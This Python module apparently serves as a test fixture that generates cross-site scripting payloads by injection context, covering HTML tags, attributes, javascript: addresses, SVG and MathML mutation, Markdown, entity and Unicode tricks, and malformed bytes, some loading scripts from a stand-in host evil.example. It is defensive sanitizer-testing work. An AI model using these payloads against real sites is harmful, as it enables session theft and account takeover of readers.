# SPDX-FileCopyrightText: 2026 The Broadsheet authors
# SPDX-License-Identifier: Apache-2.0
"""What somebody writes who wants a script to run in our readers' browsers: templates by the place in a page that they
break out of or hide in, each with several scripts. A script that runs says so: see SCRIPTS."""

import urllib.parse

# Each is seen by whoever watches the page: as a dialog, or in a variable of the window.
SCRIPTS = ["alert(1)", "window.__xss=1", "top.__xss=1"]

# By the name of the place. JS stands for the script, URL for it as an address encodes it, ENT for it in entities.
CONTEXTS = {
    "element": ["<script>JS</script>", "<script/x>JS</script >", "<ScRiPt>JS</sCrIpT>", "<script\n>JS</script\n>"],
    "script from elsewhere": ["<script src=data:,URL></script>", "<script src=//evil.example/x.js></script>",
                              "<script type=module>JS</script>", "<script async src=\"data:text/javascript,URL\"></script>"],
    "attribute in double quotes": ["\" onmouseover=\"JS", "\" autofocus onfocus=\"JS\" x=\"", "\"><script>JS</script>",
                                   "\" style=\"animation-name:x\" onanimationstart=\"JS"],
    "attribute in single quotes": ["' onmouseover='JS", "' autofocus onfocus='JS' x='", "'><script>JS</script>"],
    "attribute without quotes": ["x onmouseover=JS", "x autofocus tabindex=1 onfocus=JS", "x><script>JS</script>",
                                 "x/onmouseover=JS//"],
    "attribute in backticks": ["` onmouseover=`JS`", "``onfocus=JS autofocus"],
    "handler of a picture": ["<img src=x onerror=JS>", "<img src=x: onerror='JS'>", "<img/src/onerror=JS>",
                             "<img src=x onerror\n=\nJS>", "<image src=x onerror=JS>"],
    "handler of a page": ["<body onload=JS>", "<body onpageshow=JS>", "<html onmousemove=JS>", "<frameset onload=JS>"],
    "handler of a control": ["<input autofocus onfocus=JS>", "<select autofocus onfocus=JS>", "<textarea autofocus onfocus=JS>",
                             "<button popovertarget=x>x</button><b popover id=x onbeforetoggle=JS>y</b>"],
    "handler of media": ["<video><source onerror=JS></video>", "<audio src=x onerror=JS>", "<video src=x onerror=JS>",
                         "<video poster=javascript:URL></video>"],
    "handler of a disclosure": ["<details open ontoggle=JS>x</details>", "<dialog open onclose=JS>x</dialog>"],
    "handler of an animation": ["<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=JS>x</b>",
                                "<b style=transition:1s onfocus=JS tabindex=1>x</b>", "<marquee onstart=JS>x</marquee>"],
    "address of a script": ["<a href=javascript:URL>x</a>", "[x](javascript:URL)", "<javascript:URL>", "javascript:URL"],
    "address in other letters": ["[x](JaVaScRiPt:URL)", "<a href=JAVASCRIPT:URL>x</a>", "[x](vbscript:URL)",
                                 "[x](livescript:URL)"],
    "address with control characters": ["[x](java\tscript:URL)", "[x](<java\tscript:URL>)", "[x](\x01javascript:URL)",
                                        "<a href='java\nscript:URL'>x</a>", "[x](\x0bjavascript:URL)"],
    "address in entities": ["[x](&#106;avascript:URL)", "[x](&#x6A;avascript&colon;URL)", "[x](java&Tab;script:URL)",
                            "[x](java&NewLine;script:URL)", "<a href=&#106;avascript:ENT>x</a>", "[x](&#1;javascript:URL)"],
    "address with escapes": ["[x](java\\script:URL)", "[x](javascript\\:URL)", "[x](%6Aavascript:URL)", "[x](javascript%3AURL)"],
    "address that hides its scheme": ["[x](https:javascript:URL)", "[x](//evil.example/URL)", "[x](http://\njavascript:URL)",
                                      "[x](https://ok.example\\@javascript:URL)", "[x](feed:javascript:URL)",
                                      "[x](view-source:javascript:URL)"],
    "address that breaks out": ["[x](https://ok.example/\"onmouseover=\"JS)", "[x](<https://ok.example/\" onfocus=JS autofocus x=\">)",
                                "https://ok.example/\"onmouseover=JS//", "[x](https://ok.example/'onmouseover='JS)",
                                "<https://ok.example/\"onmouseover=\"JS>", "https://ok.example/<script>JS</script>"],
    "address of data": ["[x](data:text/html,<script>JS</script>)", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
                        "![x](data:image/svg+xml,<svg/onload=JS>)", "<iframe src='data:text/html,<script>JS</script>'>"],
    "SVG": ["<svg onload=JS>", "<svg/onload=JS//", "<svg><script>JS</script></svg>", "<svg><script href=data:,URL />",
            "<svg><g onload=JS></g></svg>"],
    "SVG that moves": ["<svg><animate onbegin=JS attributeName=x dur=1s>", "<svg><set onend=JS attributeName=x dur=1s>",
                       "<svg><a><animate attributeName=href values=javascript:URL /><text y=20>x</text></a>",
                       "<svg><animatetransform onbegin=JS attributeName=transform>"],
    "SVG from elsewhere": ["<svg><use href='data:image/svg+xml,<svg id=x onload=JS></svg>#x'/></svg>",
                           "<svg><foreignObject><body onload=JS></foreignObject></svg>",
                           "<svg><image href=x onerror=JS></image></svg>"],
    "MathML": ["<math href=javascript:URL>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:URL>x",
               "<math><mtext onmouseover=JS>x</mtext></math>", "<math><annotation-xml encoding=text/html><script>JS</script>"],
    "mutation of MathML": ["<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=JS&gt;\">",
                           "<math><mtext></mtext><style><img src=x onerror=JS></style></math>",
                           "<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>"],
    "mutation of SVG": ["<svg></p><style><a id=\"</style><img src=1 onerror=JS>\">",
                        "<svg><title><style></title><img src=x onerror=JS></style></svg>",
                        "<svg><desc><table><thead><s>x</desc><img src=x onerror=JS></svg>"],
    "mutation of noscript": ["<noscript><p title=\"</noscript><img src=x onerror=JS>\">",
                             "<noscript><style></noscript><img src=x onerror=JS></style>"],
    "mutation of a template": ["<template><script>JS</script></template>",
                               "<template shadowrootmode=open><script>JS</script></template>",
                               "<b><template shadowrootmode=open><img src=x onerror=JS></template></b>"],
    "mutation of a table": ["<table><a href=javascript:URL><table></a><img src=x onerror=JS>",
                            "<select><table><option><img src=x onerror=JS></select>"],
    "comment": ["<!--><script>JS</script>-->", "<!---><img src=x onerror=JS>-->", "--><script>JS</script><!--",
                "<!--!><script>JS</script>", "<!-- --!><img src=x onerror=JS>", "<!-- `--><img src=x onerror=JS>"],
    "CDATA and instructions": ["<![CDATA[><script>JS</script>]]>", "]]><script>JS</script>", "<?xml ><script>JS</script>?>",
                               "<?php ><img src=x onerror=JS> ?>", "<!DOCTYPE x [<!ENTITY y '<script>JS</script>'>]>&y;"],
    "title": ["</title><script>JS</script>", "</TITLE ><img src=x onerror=JS>", "<title></title><script>JS</script>"],
    "text area": ["</textarea><script>JS</script>", "<textarea></textarea><img src=x onerror=JS>",
                  "</textarea\n><svg onload=JS>"],
    "raw text elements": ["</style><script>JS</script>", "</script><script>JS</script>", "</xmp><img src=x onerror=JS>",
                          "<xmp><p title=\"</xmp><svg onload=JS>\">", "</noembed><img src=x onerror=JS>",
                          "<plaintext></plaintext><script>JS</script>"],
    "string of a script": ["';JS;//", "\";JS;//", "</script><svg onload=JS>", "\\';JS;//", "${JS}", "\u2028JS//"],
    "style": ["<style>*{background:url(javascript:URL)}</style>", "<b style=\"width:expression(JS)\">x</b>",
              "<style>@import 'javascript:URL';</style>", "<b style=\"-moz-binding:url(//evil.example/x#y)\">x</b>",
              "<style>@import '//evil.example/x.css';</style>"],
    "frame": ["<iframe src=javascript:URL></iframe>", "<iframe onload=JS></iframe>", "<iframe name=JS src='javascript:name'>",
              "<frameset><frame src=javascript:URL></frameset>"],
    "frame with a document": ["<iframe srcdoc='<script>JS</script>'></iframe>",
                              "<iframe srcdoc='&lt;script&gt;JS&lt;/script&gt;'></iframe>",
                              "<iframe srcdoc=\"<img src=x onerror=parent.__xss=1>\"></iframe>"],
    "object": ["<object data=javascript:URL></object>", "<object data='data:text/html,<script>JS</script>'></object>",
               "<embed src=javascript:URL>", "<embed src='data:image/svg+xml,<svg onload=JS />'>", "<applet code=x onerror=JS>"],
    "refresh": ["<meta http-equiv=refresh content='0;url=javascript:URL'>",
                "<meta http-equiv=refresh content='0;url=data:text/html,<script>JS</script>'>"],
    "base": ["<base href=javascript:URL//>", "<base href=//evil.example/><script src=x.js></script>", "<base target=_top>"],
    "head": ["<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/>",
             "<link rel=import href='data:text/html,<script>JS</script>'>", "<link rel=preload as=script href=x onerror=JS>"],
    "form": ["<form action=javascript:URL><input type=submit>", "<button formaction=javascript:URL>x</button>",
             "<form id=x></form><button form=x formaction=javascript:URL>x", "<isindex action=javascript:URL type=image>"],
    "import map": ["<script type=importmap>{\"imports\":{\"x\":\"data:text/javascript,URL\"}}</script>",
                   "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example\"]}]}</script>"],
    "names of the page": ["<form name=body><input name=attributes>", "<img name=getElementById>",
                          "<a id=defaultView><a id=defaultView name=x href=javascript:URL>x</a>"],
    "template of a framework": ["{{constructor.constructor('JS')()}}", "{{=<% %>=}}<%JS%>", "${{JS}}", "#{JS}",
                                "{{>CARD}}{{{JS}}}", "<b ng-app ng-csp>{{JS}}</b>", "<b x-data=\"JS\" v-on:click=\"JS\">x</b>"],
    "UTF-7": ["+ADw-script+AD4-JS+ADw-/script+AD4-", "<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-"],
    "zero bytes": ["<scr\0ipt>JS</scr\0ipt>", "<img src=x on\0error=JS>", "\0<script>JS</script>", "[x](java\0script:URL)",
                   "<\0script>JS</script>"],
    "direction and invisible": ["\u202e<script>JS</script>\u202c", "<scr\u200bipt>JS</script>", "[x](\u2066javascript:URL\u2069)",
                                "\ufeff<script>JS</script>", "[x](javascript\u200b:URL)", "[x](\u00adjavascript:URL)"],
    "letters that look alike": ["\uff1cscript\uff1eJS\uff1c/script\uff1e", "<\u017fcript>JS</\u017fcript>",
                                "[x](\uff4aavascript:URL)", "[x](javascript\uff1aURL)", "\u3008script\u3009JS"],
    "written twice": ["&lt;script&gt;JS&lt;/script&gt;", "&amp;lt;script&amp;gt;JS", "%3Cscript%3EJS%3C/script%3E",
                      "\\u003cscript\\u003eJS\\u003c/script\\u003e", "&#60;script&#62;JS&#60;/script&#62;",
                      "&lt&#47script&gt&ltscript&gtJS", "%253Cscript%253EJS"],
    "broken tags": ["<<script>JS//<</script>", "<script JS</script>", "<img src=x onerror=JS", "<a<b onmouseover=JS>x",
                    "<scr<script>ipt>JS</scr</script>ipt>", "</ script><script>JS</script>", "<x onclick=JS>x"],
    "link of Markdown": ["[<script>JS</script>](https://ok.example)", "[x](https://ok.example \"' onmouseover=JS x='\")",
                         "[x](https://ok.example '\"><script>JS</script>')", "[x](javascript:URL 'title')",
                         "[x]( <javascript:URL> )", "[\"onmouseover=\"JS](https://ok.example)"],
    "picture of Markdown": ["![x](javascript:URL)", "![\"onerror=\"JS](x)", "![x](x\"onerror=\"JS)",
                            "![x](https://evil.example/x.png \"\" onload=JS)", "![<img src=x onerror=JS>](https://ok.example)",
                            "![](x){onerror=JS}"],
    "definition of Markdown": ["[x]\n\n[x]: javascript:URL", "[x][y]\n\n[y]: <javascript:URL> \"z\"",
                               "[x]\n\n[x]: https://ok.example \"\\\" onmouseover=JS x=\\\"\"",
                               "![x]\n\n[x]: data:text/html,<script>JS</script>", "[x]\n\n[x]:\n  JaVaScript:URL"],
    "code of Markdown": ["`<script>JS</script>`", "```\n</code></pre><script>JS</script>\n```", "    <script>JS</script>",
                         "```\"><script>JS</script>\nx\n```", "``` x onmouseover=JS\nx\n```", "`</code><img src=x onerror=JS>`"],
    "blocks of Markdown": ["> <script>JS</script>", "- <img src=x onerror=JS>", "# <svg onload=JS>", "1. </li></ol><script>JS</script>",
                           "<div>\n\n<script>JS</script>\n\n</div>", "a\n<script>JS</script>\n===", "* * *\n<script>JS</script>"],
    "Markdown in HTML in Markdown": ["<a title=\"[x](`\">`)<img src=x onerror=JS>", "[a](`b](javascript:URL)`)",
                                     "**<img src=x** onerror=JS>", "<b title='*'onmouseover=JS*'>", "[`]( https://ok.example `<svg onload=JS>)",
                                     "<https://ok.example/**\"onmouseover=JS**>", "[![x](x)](javascript:URL)"],
    "addresses without marks": ["http://<script>JS</script>", "https://ok.example/[x](javascript:URL)",
                                "http://ok.example/&quot;onmouseover=JS", "https://ok.example/\u2028\"onmouseover=JS",
                                "mailto:x@ok.example?body=<script>JS</script>", "<x@ok.example\"onmouseover=JS>",
                                "http://[::1\"onmouseover=JS]/"],
    "names of people": ["@<script>JS</script>", "@x\"onmouseover=\"JS", "@../../javascript:URL", "@ab<img src=x onerror=JS>",
                        "@'-JS-'", "@ab/../../x?JS"],
    "formulas": ["$\\href{javascript:URL}{x}$", "$\\htmlData{x=1}{y}\\url{javascript:URL}$", "$\\text{<script>JS</script>}=1$",
                 "$$\\def\\x{<img src=x onerror=JS>}\\x=1$$", "$\\includegraphics{https://evil.example/x.png}$",
                 "$x=\"><script>JS</script>$", "$\\htmlClass{\" onmouseover=JS}{x}=1$", "$<math><mi href=javascript:URL>x$"],
}

# Bytes that are no UTF-8; their script is always the same.
BYTES = {
    "overlong forms": [b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe", b"<img src=x onerror\xc0\xbdalert(1)>",
                       b"[x](\xc1\xaaavascript:alert(1))", b"\xe0\x80\xbcscript\xe0\x80\xbealert(1)"],
    "half characters": [b"\xe2<script>alert(1)</script>", b"<img alt=\"\xf0\" src=x onerror=alert(1)>", b"\xc2\"onmouseover=alert(1)",
                        b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0a\0l\0e\0r\0t\0(\0001\0)\0"],
    "escapes of ISO 2022": [b"\x1b$B<script>alert(1)</script>\x1b(B", b"\x1b(J\x5c\"onmouseover=alert(1)"],
}


def made(template, script):
    entities = "".join(f"&#{ord(letter)};" for letter in script)
    return template.replace("JS", script).replace("URL", urllib.parse.quote(script, safe="()=._")).replace("ENT", entities)


def vectors():
    """(place, bytes), every one once."""
    found = {}
    for place, templates in CONTEXTS.items():
        for template in templates:
            for script in SCRIPTS if "JS" in template or "URL" in template or "ENT" in template else SCRIPTS[:1]:
                found.setdefault(made(template, script).encode("utf-8"), place)
    for place, all_bytes in BYTES.items():
        for some in all_bytes:
            found.setdefault(some, place)
    return [(place, vector) for vector, place in found.items()]


def one_of_each():
    """The first of each place: for fields that are tried one page at a time."""
    first = {}
    for place, vector in vectors():
        first.setdefault(place, vector)
    return list(first.items())
